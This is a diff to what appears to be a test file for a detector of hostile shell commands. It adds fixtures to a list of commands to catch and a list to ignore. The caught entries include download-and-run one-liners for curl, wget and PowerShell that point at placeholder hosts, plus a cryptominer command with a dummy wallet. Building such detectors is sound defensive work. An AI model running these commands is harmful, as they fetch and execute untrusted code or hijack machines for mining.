@@ -30,6 +30,8 @@ CATCHES = [
     ("download-run", f"bash <({FETCH})"),
     ("download-run", f"eval $({FETCH})"),
     ("download-run", "curl -o /tmp/f https://stage.example/f && chmod +x /tmp/f && /tmp/f"),
+    ("download-run", "wget https://a.example/m.tar.gz && tar -xzf m.tar.gz && cd m && nohup ./m -p x &"),
+    ("miner", f"./runner -u 4{'NotAWa11et' * 9}NotA -o pool.example:8080 -k"),
     ("download-run", "cd /tmp; wget https://stage.example/x.py; python3 x.py"),
     ("download-run", "curl -L https://stage.example/a.exe -o %TEMP%\\a.exe && start %TEMP%\\a.exe"),
     ("download-run", "IEX(New-Object Net.WebClient).DownloadString('https://stage.example')"),
@@ -121,6 +123,7 @@ DISGUISED = [
 IGNORES = [
     "",
     "git status",
+    f"echo 4{'NotAWa11et' * 9}NotA is a donation address",
     "git log --oneline",
     "make -j4 install",
     "gcc -O2 -o tool tool.c",
